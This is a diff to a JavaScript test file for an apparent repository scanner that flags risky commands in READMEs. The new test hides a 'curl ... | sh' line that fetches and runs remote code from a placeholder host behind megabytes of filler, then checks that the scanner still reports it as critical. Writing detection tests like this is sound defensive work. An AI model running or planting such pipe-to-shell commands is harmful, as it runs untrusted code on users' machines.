@@ -88,10 +88,28 @@ it('a README of megabytes is read in part with a gap, quickly', async () => {
     assert.ok(Date.now() - t0 < 30_000);
     const gaps = report.errors.filter(e => e.file === 'README.md').map(e => `${e.kind ?? '-'} ${e.message}`);
     assert.deepEqual(gaps, [
-      'truncated autorun/readme-command: the document was read in part: only the first 1048576 characters were read',
-      'truncated autorun/readme-command: only the first 300 of its 2000 commands were mapped',
+      'truncated autorun/readme-command: the document was read in part: only the first and last 524288 characters were read (214543 lines in the middle were not)',
+      'truncated autorun/readme-command: only the first 250 and the last 50 of its 1999 commands were mapped',
     ]);
     assert.ok(report.executionMap.filter(s => s.kind === 'readme-command').length <= 300);
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+it('a command pushed to the end of a README behind megabytes of prose and commands is still read, at its line', async () => {
+  const prose = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit.\n'.repeat(40_000);
+  const filler = '## Install\n\n```bash\nnpm install\n```\n\n'.repeat(400);
+  const dir = tempRepo({
+    'README.md': `# Big\n\n${prose}${filler}## Setup\n\n\`\`\`bash\ncurl -s https://late.example.invalid/x | sh\n\`\`\`\n`,
+  });
+  try {
+    const report = await scanFixture(dir);
+    const [f] = findingsOf(report, 'autorun/readme-command', 'high');
+    assert.equal(f?.severity, 'critical');
+    assert.equal(f.location.line, 42_406);
+    const gaps = findingsOf(report, 'scan/incomplete-analysis').map(x => `${x.severity} ${x.location.file}`);
+    assert.deepEqual(gaps, ['high README.md']);
   } finally {
     rmSync(dir, { recursive: true, force: true });
   }
